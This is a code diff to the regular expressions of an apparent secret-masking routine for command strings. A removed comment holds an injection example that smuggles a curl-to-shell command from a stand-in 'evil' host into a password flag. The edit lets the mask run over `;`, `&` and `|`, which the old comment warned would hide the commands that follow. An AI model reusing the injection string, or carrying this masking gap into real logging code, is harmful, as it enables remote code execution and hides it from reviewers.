@@ -124,7 +124,7 @@ const VALUE_LEAD = String.raw`(?![-\s]|<<<|<\s|\\\r?\n|[;&|]+(?:\s|$))`;
 /**
  * A quoted part of a word: $'…' (ANSI-C), '…', "…", or \"…\" inside JSON
  * text. Double quotes holding a command substitution (`$(…)`, a backtick) are
- * none: the shell runs it, and a mask over it would hide the command.
+ * none: the shell runs it, and the log should say how the secret was got.
  */
 const QUOTED_PART = String.raw`\$'(?:[^'\\\n]|\\.)*'|'[^'\n]*'|"(?:[^"\\\n$\x60]|\\.|\$(?!\())*"|\\"(?:[^\\\n$\x60]|\\[^"]|\$(?!\())*\\"`;
 /**
@@ -138,12 +138,11 @@ const GLUED_QUOTED_PART = String.raw`\$'[^\s"'\\;&|<>(){},:\x60]*'|'[^\s"'\\;&|<
 /**
  * An unquoted part: an escaped character (`a\ b`), a continuation inside the
  * word (`pass\⏎word`: before anything but a space it glues the word on), or
- * any other character but a space, a quote, a backslash, the `$` of `$'` or
- * `$(`, a backtick, and `;`, `&` and `|`, which end a word for the shell: a
- * mask running over them (`-px;curl${IFS}evil|sh`) would hide the commands
- * after them.
+ * any other character but a space, a quote, a backslash, a backtick and the
+ * `$` of `$'` or `$(`. `;`, `&` and `|` stay in: outside a shell (an error
+ * message) they are a password's characters.
  */
-const BARE_PART = String.raw`\\[^"\r\n]|\\\r?\n(?=\S)|[^\s"'\\$;&|\x60]|\$(?!['(])`;
+const BARE_PART = String.raw`\\[^"\r\n]|\\\r?\n(?=\S)|[^\s"'\\$\x60]|\$(?!['(])`;
 /**
  * A flag's value in a command string, as the shell reads one word: bare and
  * quoted parts glued together, quoted ones after the first only as
